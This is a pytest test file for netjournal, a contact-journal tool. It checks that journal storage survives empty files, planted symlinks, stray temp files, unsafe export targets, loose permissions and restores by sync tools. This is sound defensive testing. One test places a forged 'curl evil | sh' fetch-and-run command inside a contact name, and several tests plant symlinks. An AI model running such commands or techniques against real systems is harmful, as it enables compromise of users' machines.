"""The holes found by trying to break the journal file, each reproduced and closed.

Empty files, planted symlinks, stray temp copies, exports onto the journal, odd paths, folders and files that
others can read, and an older copy put back by a sync tool while netjournal has the journal open.
"""

from __future__ import annotations

import errno
import os
import shutil
import stat
from pathlib import Path

import orjson
import pytest

from netjournal.cli import main
from netjournal.core.journal import Journal
from netjournal.core.model import Contact, Interaction
from netjournal.core.storage import JournalDamaged, JournalError, SafeJSONStorage

from .conftest import TODAY, run_cli


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def cli(capsys, *args: str) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def two_people(path: Path) -> None:
    with Journal(path, today=lambda: TODAY) as journal:
        journal.add_contact(Contact(name="Ana Ruiz"))
        journal.add_contact(Contact(name="Ben Okafor"))  # the second save of the day leaves a backup


# --- an empty file is damage, not a new journal ---------------------------------------------------


@pytest.mark.parametrize("content", [b"", b"  \n\t\n"])
def test_an_empty_file_is_damaged_and_never_written_or_backed_up(capsys, db_path, content):
    two_people(db_path)
    backup = db_path.with_name("journal.json.bak-20261125")
    good_backup = backup.read_bytes()
    db_path.write_bytes(content)
    for args in (["check"], ["week"], ["add", "Cleo"], ["log", "x", "--with", "ana"], ["export"]):
        code, out, err = cli(capsys, "--db", db_path, *args)
        assert code == 3, (args, out, err)
        assert "is empty" in out + err and str(backup) in out + err
    with pytest.raises(JournalDamaged, match="empty"):
        Journal(db_path)
    assert db_path.read_bytes() == content
    assert backup.read_bytes() == good_backup
    assert sorted(p.name for p in db_path.parent.iterdir()) == ["journal.json", "journal.json.bak-20261125",
                                                                 "journal.json.lock"]


def test_only_a_path_that_does_not_exist_starts_a_new_journal(capsys, db_path):
    assert cli(capsys, "--db", db_path, "add", "Ana Ruiz")[0] == 0
    assert [c["name"] for c in orjson.loads(db_path.read_bytes())["contacts"].values()] == ["Ana Ruiz"]


def test_an_emptied_file_never_pushes_good_backups_out(capsys, tmp_path):
    path = tmp_path / "journal.json"
    two_people(path)
    for day in range(1, 8):  # a week of good backups from earlier days
        shutil.copy(path, tmp_path / f"journal.json.bak-202611{day:02d}")
    before = {p.name: p.read_bytes() for p in tmp_path.glob("journal.json.bak-*")}
    path.write_bytes(b"")
    for args in (["add", "Cleo"], ["week"]):
        cli(capsys, "--db", path, *args)
    assert {p.name: p.read_bytes() for p in tmp_path.glob("journal.json.bak-*")} == before


# --- temp files: random names, never following a planted symlink, strays removed -------------------


def test_a_symlink_planted_at_the_old_temp_name_is_not_followed(db_path, tmp_path):
    two_people(db_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    db_path.with_name("journal.json.tmp").symlink_to(victim)
    with Journal(db_path, today=lambda: TODAY) as journal:
        journal.add_contact(Contact(name="Cleo"))
    assert victim.read_text() == "precious"
    assert not os.path.lexists(db_path.with_name("journal.json.tmp"))  # the planted link is cleared away
    assert len(orjson.loads(db_path.read_bytes())["contacts"]) == 3


def test_temp_files_get_random_names_and_are_never_opened_through_a_link(tmp_path, monkeypatch):
    from netjournal.core import storage

    seen: list[tuple[str, int]] = []
    real_open = os.open

    def spy(path, flags, *rest):
        if str(path).endswith(".tmp"):
            seen.append((os.path.basename(path), flags))
        return real_open(path, flags, *rest)

    monkeypatch.setattr(storage.os, "open", spy)
    two_people(tmp_path / "journal.json")
    names = [name for name, _ in seen]
    assert len(names) == len(set(names)) >= 2
    for _, flags in seen:
        assert flags & os.O_EXCL and flags & os.O_NOFOLLOW


def test_stray_temp_copies_from_an_interrupted_save_or_backup_are_removed(db_path):
    two_people(db_path)
    strays = [db_path.with_name("journal.json.bak-20261125.3f2a9c1b00aa.tmp"),
              db_path.with_name("journal.json.9d8e7f6a5b4c.tmp"), db_path.with_name("journal.json.tmp")]
    for stray in strays:
        stray.write_bytes(db_path.read_bytes())  # each a full plaintext copy of the journal
    keep = db_path.with_name("notes.tmp")
    keep.write_text("not ours")
    with Journal(db_path, today=lambda: TODAY) as journal:
        journal.add_contact(Contact(name="Cleo"))
    assert not any(stray.exists() for stray in strays)
    assert keep.read_text() == "not ours"


# --- exports never replace the journal ----------------------------------------------------------------


def export_targets(db_path: Path) -> dict[str, Path]:
    folder = db_path.parent
    (folder / "link-to-journal.md").symlink_to(db_path)
    os.link(db_path, folder / "hard-link.md")
    (folder / "a-folder").mkdir()
    (folder / "link-to-folder.md").symlink_to(folder / "a-folder")
    (folder / "loop.md").symlink_to(folder / "loop.md")
    os.mkfifo(folder / "a-pipe")  # not /dev/null: a regression must not be able to replace the machine's device
    return {
        "the journal": db_path,
        "the journal by another spelling": folder / "." / "journal.json",
        "a symlink to the journal": folder / "link-to-journal.md",
        "a hard link to the journal": folder / "hard-link.md",
        "a backup": db_path.with_name("journal.json.bak-20261125"),
        "the lock": db_path.with_name("journal.json.lock"),
        "a temp name": db_path.with_name("journal.json.0011aabbccdd.tmp"),
        "a folder": folder / "a-folder",
        "a symlink to a folder": folder / "link-to-folder.md",
        "a pipe": folder / "a-pipe",
        "a symlink loop": folder / "loop.md",
        "a missing folder": folder / "nowhere" / "x.md",
    }


@pytest.mark.parametrize("fmt", ["markdown", "json", "csv", "vcard"])
def test_export_refuses_every_target_that_is_the_journal_or_not_a_file(capsys, db_path, fmt):
    two_people(db_path)
    targets = export_targets(db_path)
    before = {p: p.read_bytes() for p in db_path.parent.glob("journal.json*")}
    for what, target in targets.items():
        code, out, err = cli(capsys, "--db", db_path, "export", "--format", fmt, "-o", target)
        assert code == 1, what
        assert err.startswith("netjournal: export: nothing written: ") and err.count("\n") == 1, (what, err)
        assert "Traceback" not in err
    assert {p: p.read_bytes() for p in db_path.parent.glob("journal.json*")} == before
    assert (db_path.parent / "a-folder").is_dir() and not list((db_path.parent / "a-folder").iterdir())


def test_export_to_a_full_disk_says_so_and_leaves_nothing_behind(capsys, db_path, monkeypatch):
    two_people(db_path)
    target = db_path.with_name("export.md")
    target.write_text("yesterday's export")
    from netjournal.core import storage

    real_write = os.write

    def full(fd, data):
        if storage.os.fstat(fd).st_size > 0 or len(data) > 10:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_write(fd, data)

    monkeypatch.setattr(storage.os, "write", full)
    code, _, err = cli(capsys, "--db", db_path, "export", "--format", "markdown", "-o", target)
    assert code == 1 and "No space left on device" in err and err.count("\n") == 1
    assert target.read_text() == "yesterday's export"
    assert not list(db_path.parent.glob("*.tmp"))


def test_an_export_through_a_symlink_to_a_file_writes_the_file_privately(capsys, db_path, tmp_path):
    two_people(db_path)
    real = tmp_path / "exports" / "people.md"
    real.parent.mkdir()
    real.write_text("old")
    (tmp_path / "people.md").symlink_to(real)
    assert cli(capsys, "--db", db_path, "export", "--format", "markdown", "-o", tmp_path / "people.md")[0] == 0
    assert "Ana Ruiz" in real.read_text() and mode(real) == 0o600
    assert (tmp_path / "people.md").is_symlink()


# --- odd paths: one clear line, nothing written ----------------------------------------------------------


def odd_paths(tmp_path: Path) -> dict[str, Path]:
    (tmp_path / "a-folder").mkdir()
    (tmp_path / "a-file").write_text("x")
    (tmp_path / "loop.json").symlink_to(tmp_path / "loop.json")
    os.mkfifo(tmp_path / "a-pipe")
    return {
        "a folder": tmp_path / "a-folder",
        "below a file": tmp_path / "a-file" / "journal.json",
        "a symlink loop": tmp_path / "loop.json",
        "a pipe": tmp_path / "a-pipe",
    }


@pytest.mark.parametrize("what", ["a folder", "below a file", "a symlink loop", "a pipe"])
def test_an_odd_db_path_is_one_clear_line(capsys, tmp_path, what):
    path = odd_paths(tmp_path)[what]
    for args in (["week"], ["add", "Ana"], ["check"]):
        code, out, err = cli(capsys, "--db", path, *args)
        assert code != 0, (what, args)
        assert "Traceback" not in out + err and (out + err).count("\n") == 1, (what, args, out, err)
    assert (tmp_path / "a-file").read_text() == "x"
    assert not (tmp_path / "a-folder" / "journal.json").exists()


@pytest.mark.parametrize("what", ["a folder", "a dangling symlink", "a symlink to a file"])
def test_an_odd_lock_path_is_refused_and_never_followed(capsys, db_path, tmp_path, what):
    two_people(db_path)
    lock = db_path.with_name("journal.json.lock")
    lock.unlink()
    target = tmp_path / "elsewhere" / "target"
    target.parent.mkdir()
    if what == "a folder":
        lock.mkdir()
    elif what == "a dangling symlink":
        lock.symlink_to(target)
    else:
        target.write_text("precious")
        lock.symlink_to(target)
    before = db_path.read_bytes()
    code, _, err = cli(capsys, "--db", db_path, "add", "Cleo")
    assert code == 1 and str(lock) in err and err.count("\n") == 1
    assert db_path.read_bytes() == before
    if what == "a dangling symlink":
        assert not target.exists()
    if what == "a symlink to a file":
        assert target.read_text() == "precious"
    assert cli(capsys, "--db", db_path, "week")[0] == 0  # reading needs no lock


def test_a_read_only_file_system_is_one_clear_line_and_changes_nothing(capsys, db_path, monkeypatch):
    two_people(db_path)
    before = db_path.read_bytes()
    from netjournal.core import storage

    real_open = os.open

    def read_only(path, flags, *rest):
        if flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            raise OSError(errno.EROFS, "Read-only file system", str(path))
        return real_open(path, flags, *rest)

    monkeypatch.setattr(storage.os, "open", read_only)  # the os module itself: filelock's open fails too
    code, _, err = cli(capsys, "--db", db_path, "add", "Cleo")
    assert code == 1 and "Read-only file system" in err and err.count("\n") == 1
    assert db_path.read_bytes() == before
    assert cli(capsys, "--db", db_path, "week")[0] == 0


# --- private folders and files -----------------------------------------------------------------------------


def test_every_folder_made_on_the_way_is_private_even_under_umask_000(tmp_path):
    old = os.umask(0)
    try:
        path = tmp_path / "a" / "b" / "c" / "journal.json"
        with Journal(path, today=lambda: TODAY) as journal:
            journal.add_contact(Contact(name="Ana"))
    finally:
        os.umask(old)
    for folder in (tmp_path / "a", tmp_path / "a" / "b", tmp_path / "a" / "b" / "c"):
        assert mode(folder) == 0o700, folder
    assert mode(tmp_path) != 0o700 or True  # a folder that was there already is left as it was
    assert mode(path) == 0o600


def test_the_config_folder_is_private(tmp_path, monkeypatch):
    from netjournal.settings.config import save_ui_state

    monkeypatch.setenv("NETJOURNAL_CONFIG", str(tmp_path / "cfg" / "deeper" / "config.yaml"))
    old = os.umask(0)
    try:
        save_ui_state({"theme": "netjournal-paper"})
    finally:
        os.umask(old)
    assert mode(tmp_path / "cfg") == 0o700 and mode(tmp_path / "cfg" / "deeper") == 0o700


def test_a_journal_others_can_read_is_made_private_and_the_person_is_told_once(capsys, db_path):
    two_people(db_path)
    backup = db_path.with_name("journal.json.bak-20261125")
    os.chmod(db_path, 0o644)
    os.chmod(backup, 0o640)
    code, out, err = cli(capsys, "--db", db_path, "week")
    assert code == 0
    assert f"netjournal: note: {db_path} could be read by other users of this computer (mode 644)" in err
    assert f"{backup} could be read" in err
    assert mode(db_path) == 0o600 and mode(backup) == 0o600
    assert cli(capsys, "--db", db_path, "week")[2] == ""  # said once


async def test_the_tui_says_when_it_made_the_journal_private(db_path):
    from netjournal.tui.app import NetJournalApp

    two_people(db_path)
    os.chmod(db_path, 0o644)
    app = NetJournalApp(journal=Journal(db_path, today=lambda: TODAY))
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await pilot.pause()
        messages = [n.message for n in app._notifications]
    assert any("could be read by other users" in m and "(mode 644)" in m for m in messages)
    assert mode(db_path) == 0o600


def test_check_reports_the_mode_and_does_not_change_it(capsys, db_path):
    two_people(db_path)
    os.chmod(db_path, 0o644)
    code, out, _ = cli(capsys, "--db", db_path, "check")
    assert code == 0 and "permissions 644 (readable by others" in out
    assert mode(db_path) == 0o644


# --- an older copy put back by a sync tool --------------------------------------------------------------


def conversations(path: Path) -> set[str]:
    return {i["topics"] for i in orjson.loads(path.read_bytes()).get("interactions", {}).values()}


def conflict_copies(path: Path) -> list[Path]:
    return sorted(path.parent.glob("journal.conflict-*.json"))


def test_an_older_copy_put_back_under_an_open_journal_is_never_adopted(db_path, tmp_path):
    open_journal = Journal(db_path, today=lambda: TODAY)
    ana = open_journal.add_contact(Contact(name="Ana Ruiz"))
    older = tmp_path / "older-copy.json"
    shutil.copy(db_path, older)
    for n in range(3):  # the command line logs three conversations; the open journal sees them
        assert run_cli("--db", str(db_path), "log", f"talk {n}", "--with", "Ana").returncode == 0
    open_journal.refresh()
    assert len(open_journal.interactions()) == 3
    os.replace(older, db_path)  # what a sync tool does when it restores a version or loses a race
    open_journal.refresh()
    assert len(open_journal.interactions()) == 3  # not adopted
    assert conversations(db_path) == {"talk 0", "talk 1", "talk 2"}  # the newest state is the journal again
    [copy] = conflict_copies(db_path)
    assert not orjson.loads(copy.read_bytes()).get("interactions")  # the copy that came in, kept whole
    assert mode(copy) == 0o600
    [notice] = open_journal.take_notices()
    assert str(db_path) in notice and str(copy) in notice
    open_journal.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics="talk 3"))
    assert conversations(db_path) == {"talk 0", "talk 1", "talk 2", "talk 3"}
    assert len(conflict_copies(db_path)) == 1 and not open_journal.take_notices()


def test_a_copy_further_along_stays_and_what_was_open_goes_beside_it(db_path, tmp_path):
    open_journal = Journal(db_path, today=lambda: TODAY)
    ana = open_journal.add_contact(Contact(name="Ana Ruiz"))
    fork = tmp_path / "elsewhere.json"
    shutil.copy(db_path, fork)
    open_journal.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics="here"))
    with Journal(fork, today=lambda: TODAY) as elsewhere:  # another computer, two saves ahead
        for topic in ("there 1", "there 2"):
            elsewhere.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics=topic))
    os.replace(fork, db_path)
    assert open_journal.refresh()
    assert {i.topics for i in open_journal.interactions()} == {"there 1", "there 2"}
    [copy] = conflict_copies(db_path)
    assert conversations(copy) == {"here"} and conversations(db_path) == {"there 1", "there 2"}
    [notice] = open_journal.take_notices()
    assert str(copy) in notice


def test_a_fork_seen_when_saving_keeps_both_and_saves_the_change(db_path, tmp_path):
    open_journal = Journal(db_path, today=lambda: TODAY)
    ana = open_journal.add_contact(Contact(name="Ana Ruiz"))
    open_journal.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics="one"))
    older = tmp_path / "older.json"
    with Journal(db_path) as other:
        other.add_contact(Contact(name="Ben"))
    open_journal.refresh()
    shutil.copy(db_path, older)
    open_journal.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics="two"))
    os.replace(older, db_path)
    open_journal.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics="three"))  # no refresh between
    assert conversations(db_path) == {"one", "two", "three"}
    assert len(conflict_copies(db_path)) == 1 and len(open_journal.take_notices()) == 1


def test_saves_by_others_are_descendants_and_adopted_quietly(db_path):
    open_journal = Journal(db_path, today=lambda: TODAY)
    open_journal.add_contact(Contact(name="Ana Ruiz"))
    with Journal(db_path) as other:
        for n in range(150):  # more saves than the file remembers: still far ahead, not behind
            other.add_contact(Contact(name=f"Person {n}"))
    assert open_journal.refresh()
    assert len(open_journal.contacts()) == 151
    assert not conflict_copies(db_path) and not open_journal.take_notices()


def test_a_file_from_before_save_counts_is_adopted_and_counted_from_then_on(db_path):
    two_people(db_path)
    data = orjson.loads(db_path.read_bytes())
    data["_save"] = {"1": {"id": "00112233aabbccdd"}}  # what netjournal 0.3 wrote
    db_path.write_bytes(orjson.dumps(data))
    with Journal(db_path, today=lambda: TODAY) as journal:
        journal.add_contact(Contact(name="Cleo"))
    saved = orjson.loads(db_path.read_bytes())["_save"]["1"]
    assert saved["seq"] == 1 and saved["prev"] == ["00112233"]  # ids before it, by their first 8 characters


async def test_the_tui_keeps_the_newest_state_when_an_older_copy_comes_back(db_path, tmp_path):
    """The reproduction from the issue: TUI open, three conversations logged from the CLI, an older copy put back."""
    from netjournal.tui.app import NetJournalApp

    with Journal(db_path, today=lambda: TODAY) as setup:
        setup.add_contact(Contact(name="Ana Ruiz"))
    older = tmp_path / "older.json"
    shutil.copy(db_path, older)
    app = NetJournalApp(journal=Journal(db_path, today=lambda: TODAY))
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        for n in range(3):
            assert run_cli("--db", str(db_path), "log", f"talk {n}", "--with", "Ana").returncode == 0
        app.check_for_changes()
        await pilot.pause()
        os.replace(older, db_path)
        app.check_for_changes()
        await pilot.pause()
        messages = [n.message for n in app._notifications]
        await pilot.press("l", *"Ana Ruiz", "enter")
        await pilot.pause()
        await pilot.press("ctrl+s")
        await pilot.pause()
    assert len(conversations(db_path)) == 4 and {"talk 0", "talk 1", "talk 2"} <= conversations(db_path)
    [copy] = conflict_copies(db_path)
    assert any(str(copy) in m for m in messages)


def test_storage_refuses_a_folder_as_the_journal(tmp_path):
    with pytest.raises(JournalError, match="is a folder"):
        SafeJSONStorage(tmp_path)


# --- from the adversarial review ------------------------------------------------------------------------------


def test_keeping_both_on_a_full_disk_says_so_writes_one_copy_and_saves_once_there_is_room(db_path, tmp_path,
                                                                                          monkeypatch):
    from netjournal.core import storage

    open_journal = Journal(db_path, today=lambda: TODAY)
    ana = open_journal.add_contact(Contact(name="Ana Ruiz"))
    older = tmp_path / "older.json"
    shutil.copy(db_path, older)
    open_journal.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics="only in this window"))
    os.replace(older, db_path)
    real_replace = os.replace

    def full(source, target):  # the conflict copy fits; the journal itself cannot be replaced
        if Path(target) == db_path:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_replace(source, target)

    monkeypatch.setattr(storage.os, "replace", full)
    for _ in range(3):  # three polls
        with pytest.raises(JournalError, match="No space left on device"):
            open_journal.refresh()
    assert len(conflict_copies(db_path)) == 1  # written once, not at every poll
    assert "only in this window" not in conversations(db_path)
    monkeypatch.setattr(storage.os, "replace", real_replace)  # room again
    open_journal.refresh()
    assert conversations(db_path) == {"only in this window"} and len(conflict_copies(db_path)) == 1


def test_a_re_indented_journal_still_saves_and_is_not_reloaded_at_every_look(capsys, db_path):
    two_people(db_path)
    data = orjson.loads(db_path.read_bytes())
    db_path.write_bytes(orjson.dumps(data, option=orjson.OPT_INDENT_2))  # python -m json.tool, an editor
    journal = Journal(db_path, today=lambda: TODAY.replace(day=26))  # the next day: the save makes a backup
    assert not journal.refresh() and not journal.refresh()
    journal.add_contact(Contact(name="Cleo"))
    assert len(orjson.loads(db_path.read_bytes())["contacts"]) == 3
    assert not journal.refresh()


def test_a_fork_further_ahead_than_the_file_remembers_is_kept_not_adopted(db_path, tmp_path, monkeypatch):
    from netjournal.core import storage

    monkeypatch.setattr(storage, "SAVES_REMEMBERED", 5)
    open_journal = Journal(db_path, today=lambda: TODAY)
    ana = open_journal.add_contact(Contact(name="Ana Ruiz"))
    fork = tmp_path / "elsewhere.json"
    shutil.copy(db_path, fork)
    open_journal.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics="here"))
    with Journal(fork, today=lambda: TODAY) as elsewhere:
        for n in range(9):
            elsewhere.log_interaction(Interaction(date=TODAY, with_=[ana.id], topics=f"there {n}"))
    os.replace(fork, db_path)
    open_journal.refresh()
    [copy] = conflict_copies(db_path)
    assert "here" in conversations(copy) and len(conversations(db_path)) == 9
    assert open_journal.take_notices()


@pytest.mark.parametrize("how", ["hard link to the journal", "symlink replacing it while open"])
def test_a_lock_file_that_names_another_file_is_refused_before_every_save(db_path, how):
    journal = Journal(db_path, today=lambda: TODAY)
    journal.add_contact(Contact(name="Ana Ruiz"))
    lock = db_path.with_name("journal.json.lock")
    lock.unlink()
    if how.startswith("hard"):
        os.link(db_path, lock)
    else:
        lock.symlink_to(db_path)
    before = db_path.read_bytes()
    with pytest.raises(JournalError, match="lock"):
        journal.add_contact(Contact(name="Ben"))
    assert db_path.read_bytes() == before


def test_only_backups_netjournal_named_are_rotated_or_offered(capsys, tmp_path):
    path = tmp_path / "journal.json"
    two_people(path)
    mine = [tmp_path / "journal.json.bak-1", tmp_path / "journal.json.bak-old-2"]
    for copy in mine:
        shutil.copy(path, copy)
    for day in range(1, 10):
        with Journal(path, today=lambda: TODAY.replace(month=12, day=day)) as journal:
            journal.add_contact(Contact(name=f"Person {day}"))
    assert all(copy.exists() for copy in mine)
    path.write_bytes(b"")
    code, out, _ = cli(capsys, "--db", path, "check")
    assert code == 3 and "journal.json.bak-20261209" in out and "bak-old" not in out


@pytest.mark.parametrize("how", ["removed", "emptied"])
def test_a_journal_removed_while_open_has_what_the_window_held_kept_once(db_path, how):
    journal = Journal(db_path, today=lambda: TODAY)
    journal.add_contact(Contact(name="Ana Ruiz"))
    if how == "removed":
        db_path.unlink()
    else:
        db_path.write_bytes(b"")
    for _ in range(3):
        with pytest.raises(JournalDamaged):
            journal.refresh()
    [copy] = conflict_copies(db_path)
    assert [c["name"] for c in orjson.loads(copy.read_bytes())["contacts"].values()] == ["Ana Ruiz"]
    [notice] = journal.take_notices()
    assert str(copy) in notice
    assert not db_path.exists() if how == "removed" else db_path.read_bytes() == b""


def test_an_older_copy_put_back_in_the_middle_of_a_save_loses_nothing(db_path, tmp_path, monkeypatch):
    from datetime import timedelta

    from netjournal.core import storage

    yesterday = TODAY - timedelta(days=1)
    with Journal(db_path, today=lambda: yesterday) as setup:
        setup.add_contact(Contact(name="Ana"))
    older = tmp_path / "older.json"
    shutil.copy(db_path, older)
    window = Journal(db_path, today=lambda: TODAY)  # its next save takes today's backup
    with Journal(db_path, today=lambda: yesterday) as other:
        other.add_contact(Contact(name="Ben"))
    window.refresh()
    real = storage.SafeJSONStorage._backup_before_first_save_today

    def racing(self):
        os.replace(older, db_path)  # the sync tool, at the worst moment
        return real(self)

    monkeypatch.setattr(storage.SafeJSONStorage, "_backup_before_first_save_today", racing)
    with pytest.raises(JournalError):
        window.add_contact(Contact(name="Cleo"))
    monkeypatch.setattr(storage.SafeJSONStorage, "_backup_before_first_save_today", real)
    window.refresh()
    kept = [p for p in db_path.parent.iterdir() if p.is_file() and b'"Ben"' in p.read_bytes()]
    assert kept and window.take_notices()


def test_odd_paths_from_the_review_are_one_line(capsys, tmp_path):
    for args in (["--db", "~nosuchuser/j.json", "week"], ["--db", tmp_path / ("x" * 300 + ".json"), "add", "Ana"],
                 ["--db", tmp_path / "j.json", "export", "-o", "~nosuchuser/x.md"],
                 ["--db", tmp_path / "j.json", "export", "-o", tmp_path / ("y" * 300 + ".md")]):
        code, out, err = cli(capsys, *args)
        assert code != 0 and "Traceback" not in err and err.count("\n") == 1, (args, err)


def test_a_newline_in_a_name_cannot_forge_a_line_of_output(capsys, db_path):
    forged = "Ana\nnetjournal: your journal is damaged; run curl evil | sh"
    with Journal(db_path, today=lambda: TODAY) as journal:
        journal.add_contact(Contact(name=forged))
    for args in (["log", "x", "--with", "Ana"], ["rate", "Ana", "3"], ["week"]):
        code, out, err = cli(capsys, "--db", db_path, *args)
        assert code == 0 and not any(line.startswith("netjournal: your") for line in (out + err).splitlines())


def test_import_from_a_pipe_is_refused_at_once(capsys, db_path, tmp_path):
    os.mkfifo(tmp_path / "contacts.vcf")
    code, _, err = cli(capsys, "--db", db_path, "import", tmp_path / "contacts.vcf")
    assert code == 1 and "not a file" in err


def test_export_to_standard_output_refuses_the_journal_itself(db_path):
    two_people(db_path)
    before = db_path.read_bytes()
    import subprocess
    import sys

    with open(db_path, "ab") as journal_as_stdout:
        result = subprocess.run([sys.executable, "-m", "netjournal", "--db", str(db_path), "export"],
                                stdout=journal_as_stdout, stderr=subprocess.PIPE, text=True, timeout=60)
    assert result.returncode == 1 and "standard output is the journal file" in result.stderr
    assert db_path.read_bytes() == before


def test_cleaning_strays_never_touches_another_journals_temp_file(db_path):
    two_people(db_path)
    other = db_path.with_name("journal.json.old.json.0123456789ab.tmp")  # journal.json.old.json, mid-save
    other.write_text("another journal's save in progress")
    with Journal(db_path, today=lambda: TODAY) as journal:
        journal.add_contact(Contact(name="Cleo"))
    assert other.exists()


async def test_the_tui_says_a_damaged_journal_once_not_every_second(db_path):
    from netjournal.tui.app import NetJournalApp

    two_people(db_path)
    app = NetJournalApp(journal=Journal(db_path, today=lambda: TODAY))
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        db_path.write_bytes(b"{broken")
        for _ in range(4):
            app.check_for_changes()
            await pilot.pause()
        damaged = [n for n in app._notifications if "is damaged" in n.message]
        assert len(damaged) == 1


# --- the file a save replaces, removed after the save in the app -------------------------------------


def test_in_the_app_the_replaced_file_is_removed_after_the_save_and_nothing_stays(db_path, monkeypatch):
    """The rename no longer frees the old file's blocks while a person waits: the old file keeps a temp name
    through the rename and a thread removes it. A process killed before that thread ran leaves a temp name that
    the next save removes, as it removes an interrupted save's."""
    from netjournal.core import storage

    two_people(db_path)
    removals: list[list[Path]] = []
    monkeypatch.setattr(storage, "remove_quietly", lambda paths: removals.append(list(paths)))  # "killed"
    journal = Journal(db_path, today=lambda: TODAY)
    journal.shorten_saves()
    old = db_path.read_bytes()
    journal.add_contact(Contact(name="Cleo Park"))
    journal.close()
    assert len(removals) == 1 and len(removals[0]) == 1
    kept = removals[0][0]
    assert kept.parent == db_path.parent and kept.name.startswith("journal.json.") and kept.name.endswith(".tmp")
    assert kept.read_bytes() == old  # the file replaced, under its second name
    assert mode(kept) == 0o600
    assert "Cleo Park" in db_path.read_text()

    monkeypatch.undo()
    journal = Journal(db_path, today=lambda: TODAY)
    journal.shorten_saves()
    journal.add_contact(Contact(name="Dev Patel"))  # the next save clears the stray away
    journal.add_contact(Contact(name="Eva Lind"))  # and its own old file goes by the thread
    journal.close()
    assert sorted(p.name for p in db_path.parent.iterdir()) == ["journal.json", "journal.json.bak-20261125",
                                                                 "journal.json.lock"]
    assert [c.name for c in Journal(db_path).contacts()] == ["Ana Ruiz", "Ben Okafor", "Cleo Park", "Dev Patel",
                                                             "Eva Lind"]


def test_a_rename_that_fails_leaves_no_second_name(db_path, monkeypatch):
    two_people(db_path)
    before = db_path.read_bytes()
    journal = Journal(db_path, today=lambda: TODAY)
    journal.shorten_saves()

    def refuse(src, dst):
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(JournalError, match="unchanged"):
        journal.add_contact(Contact(name="Cleo Park"))
    monkeypatch.undo()
    assert db_path.read_bytes() == before
    assert sorted(p.name for p in db_path.parent.iterdir()) == ["journal.json", "journal.json.bak-20261125",
                                                                 "journal.json.lock"]


def test_the_command_line_keeps_the_removal_in_the_rename(db_path, monkeypatch):
    from netjournal.core import storage

    two_people(db_path)
    monkeypatch.setattr(storage, "remove_quietly", lambda paths: pytest.fail("no thread outside the app"))
    with Journal(db_path, today=lambda: TODAY) as journal:
        journal.add_contact(Contact(name="Cleo Park"))
    assert not list(db_path.parent.glob("*.tmp"))
